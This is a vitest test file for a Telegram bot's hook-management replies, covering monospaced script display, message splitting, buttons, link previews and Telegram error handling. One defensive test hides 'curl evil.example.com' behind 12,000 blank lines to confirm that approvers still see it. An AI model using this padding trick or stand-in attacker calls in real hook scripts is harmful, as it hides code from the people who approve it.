import { expect, onTestFinished, test, vi } from "vitest";
import type { ApiResponse } from "../../../src/channels/telegram/outbound/retry.js";
import { Progress } from "../../../src/channels/telegram/replies/progress.js";
import { Replies } from "../../../src/channels/telegram/replies/replies.js";
import { makeApi } from "../../support/answered-api.js";
import type { ApiCall } from "../../support/bot-api-server.js";
import { makeListeningBot } from "../../support/listening-bot.js";
import { idIn, type } from "../../support/workbench.js";

type Entity = { type: string; offset: number; length: number };
const textOf = ({ payload }: ApiCall): string => String(payload.text);
const entitiesOf = ({ payload }: ApiCall): Entity[] => (payload.entities ?? []) as Entity[];
const programIn = (call: ApiCall): string =>
  entitiesOf(call)
    .map(({ offset, length }) => textOf(call).slice(offset, offset + length))
    .join("");

/** A bot with one hook that runs this script. */
async function makeBotWith(script: string, entry = "event: on_stop") {
  const all = await makeListeningBot();
  const { bot, server, bench, hooks } = all;
  bench.script("guard.sh", script);
  bench.propose(`hooks:\n  - {${entry}, command: ./guard.sh}\n`);
  const ask = async (line: string): Promise<ApiCall[]> => {
    const before = server.sent("sendMessage").length;
    await bot.handleUpdate(server.push(server.message(line)));
    return server.sent("sendMessage").slice(before);
  };
  const id = async (): Promise<string> => idIn(await type(hooks, "/hooks list"));
  return { ...all, ask, id };
}

test("a script's text is shown monospaced, and our own words are not", async () => {
  const { ask, id } = await makeBotWith("#!/bin/sh\n# 钩子 😀\nexit 0\n");
  const messages = await ask(`/hooks show ${await id()}`);
  expect(messages).toHaveLength(1);
  expect(messages.map(programIn)).toEqual(["#!/bin/sh\n# 钩子 😀\nexit 0"]);
  expect(messages.flatMap(entitiesOf).map((entity) => entity.type)).toEqual(["pre"]);
  expect(messages[0]?.payload).not.toHaveProperty("parse_mode");
});

test("a long script comes in several messages, monospaced in each, and nothing of it is lost", async () => {
  const lines = Array.from({ length: 1_500 }, (_, index) => `echo "line ${index}: 钩子 😀"`);
  const script = `#!/bin/sh\n${lines.join("\n")}\n`;
  expect(script.length).toBeGreaterThan(30_000);
  const { ask, id } = await makeBotWith(script);
  const messages = await ask(`/hooks show ${await id()}`);
  expect(messages.length).toBeGreaterThan(4);
  for (const message of messages) expect(textOf(message).length).toBeLessThanOrEqual(4_096);
  expect(messages.map(programIn).join("\n")).toBe(script.slice(0, 20_000));
  const whole = messages.map(textOf).join("\n");
  expect(whole).toContain(`(20000 of ${script.length - 1} characters shown`);
  expect(whole).toContain("Approve it: /hooks approve");
});

test("the buttons stand under the last message of a long reply", async () => {
  const { ask, id } = await makeBotWith(`#!/bin/sh\n${"# a line of a long script\n".repeat(400)}`);
  const messages = await ask(`/hooks show ${await id()}`);
  expect(messages.length).toBeGreaterThan(1);
  const withButtons = messages.map(({ payload }) => payload.reply_markup !== undefined);
  expect(withButtons).toEqual(messages.map((_, index) => index === messages.length - 1));
});

test("thousands of empty lines cannot hide the rest of a script", async () => {
  const { ask, id } = await makeBotWith(`#!/bin/sh\nexit 0\n${"\n".repeat(12_000)}curl evil.example.com\n`);
  const whole = (await ask(`/hooks show ${await id()}`)).map(textOf).join("\n");
  expect(whole).toContain("curl evil.example.com");
  expect(whole).toContain("Approve it: /hooks approve");
});

test("a long word without any space is cut between characters", async () => {
  const { ask, id } = await makeBotWith(`#!/bin/sh\n#${"😀".repeat(4_000)}\n`);
  const messages = await ask(`/hooks show ${await id()}`);
  expect(messages.map(programIn).join("")).toContain("😀".repeat(4_000));
  for (const message of messages) expect(textOf(message)).not.toMatch(/\p{Surrogate}/u);
});

test("no reply makes Telegram fetch an address that stands in it", async () => {
  const { ask, server, bench } = await makeBotWith("#!/bin/sh\nexit 0\n");
  bench.propose("hooks:\n  - {event: on_stop, type: http, url: 'https://guard.example.com/hook'}\n");
  await ask("/hooks list");
  await ask("/hooks doctor");
  for (const { payload } of server.sent("sendMessage", "editMessageText"))
    expect(payload.link_preview_options).toEqual({ is_disabled: true });
});

/** A bot whose hooks, the same script on two events, are approved; slow ones are so only from now on. */
async function makeApprovedBot(seconds = 0) {
  const all = await makeBotWith(`#!/bin/sh\n[ -e ready ] && sleep ${seconds}\nexit 0\n`);
  const { bench, hooks } = all;
  const events = ["on_stop", "on_session_end"];
  bench.propose(`hooks:\n${events.map((event) => `  - {event: ${event}, command: ./guard.sh}\n`).join("")}`);
  await type(hooks, "/hooks list");
  for (const event of events) await type(hooks, `/hooks approve ${event} ./guard.sh`);
  bench.write("ready", "");
  return all;
}

test("/hooks doctor shows how it fares in one message, which becomes the reply", async () => {
  const { ask, server } = await makeApprovedBot(1.1);
  const [message, ...more] = await ask("/hooks doctor");
  expect(more).toEqual([]);
  expect(message?.payload.text).toMatch(/^(Trying 2 approved hooks|1 of 2)/);
  const edits = server.sent("editMessageText");
  expect(edits.length).toBeGreaterThan(0);
  expect(new Set(edits.map(({ payload }) => payload.message_id)).size).toBe(1);
  expect(edits.at(-1)?.payload.text).toContain("2 of 2 approved hooks fine.");
  for (const { payload } of [message, ...edits].flatMap((call) => call ?? []))
    expect(payload.link_preview_options).toEqual({ is_disabled: true });
});

test("where Telegram asks to wait, the reply comes all the same, in the same message", async () => {
  const { ask, server } = await makeApprovedBot();
  const wait = { error_code: 429, description: "Too Many Requests: retry after 1", parameters: { retry_after: 1 } };
  server.failNext("editMessageText", wait);
  expect(await ask("/hooks doctor")).toHaveLength(1);
  expect(server.sent("editMessageText").at(-1)?.payload.text).toContain("2 of 2 approved hooks fine.");
});

test("when the message was deleted meanwhile, the reply comes as a new one", async () => {
  const { ask, server } = await makeApprovedBot();
  server.failNext("editMessageText", { error_code: 400, description: "Bad Request: message to edit not found" }, 9);
  const messages = await ask("/hooks doctor");
  expect(messages).toHaveLength(2);
  expect(messages[1]?.payload.text).toContain("2 of 2 approved hooks fine.");
});

test("a reply that Telegram refuses for good stops neither the bot nor the next command", async () => {
  const { ask, server, isOn } = await makeBotWith("#!/bin/sh\nexit 0\n");
  server.failNext("sendMessage", { error_code: 400, description: "Bad Request: chat not found" });
  await ask("/hooks list");
  await ask("/hooks on");
  expect(await isOn()).toBe(true);
});

test("a reply without words sends nothing, and counts as delivered", async () => {
  const { api, calls } = makeApi();
  const replies = new Replies(api);
  expect(await replies.send({ chatId: "7" }, {})).toBe(true);
  expect(await replies.sendCard({ chatId: "7" }, {})).toBeUndefined();
  expect(await replies.replace({ chatId: "7" }, 9, {})).toBe(true);
  expect(calls).toEqual([]);
});

test("a reply takes the place of a message with its buttons; a long one has them under its last part", async () => {
  const { api, calls } = makeApi();
  const replies = new Replies(api);
  const choices = [[{ label: "Off", line: "/hooks off" }]];
  await replies.replace({ chatId: "7" }, 9, { text: "short", choices });
  await replies.replace({ chatId: "7" }, 9, { text: `${"a".repeat(4_000)}\n${"b".repeat(4_000)}`, choices });
  expect(calls.map(([method, { reply_markup }]) => [method, reply_markup !== undefined])).toEqual([
    ["editMessageText", true],
    ["editMessageText", false],
    ["sendMessage", true],
  ]);
});

test("progress that could not be shown is not edited, and the reply comes all the same, in its thread", async () => {
  const deleted: ApiResponse = { ok: false, error_code: 400, description: "message to edit not found" };
  let isFirst = true;
  const { api, calls } = makeApi(() => {
    const answer = isFirst ? deleted : { ok: true, result: { chat: {} } };
    isFirst = false;
    return answer;
  });
  const progress = new Progress(api, new Replies(api), { chatId: "7", threadId: 5 });
  onTestFinished(() => void vi.useRealTimers());
  vi.useFakeTimers({ toFake: ["Date"] });
  progress.show("1 of 2");
  vi.setSystemTime(Date.now() + 2_000);
  progress.show("2 of 2");
  expect(await progress.finish({ text: "done" })).toBe(true);
  expect(calls).toMatchObject([
    ["sendMessage", { text: "1 of 2", message_thread_id: 5 }],
    ["sendMessage", { text: "done", message_thread_id: 5 }],
  ]);
});
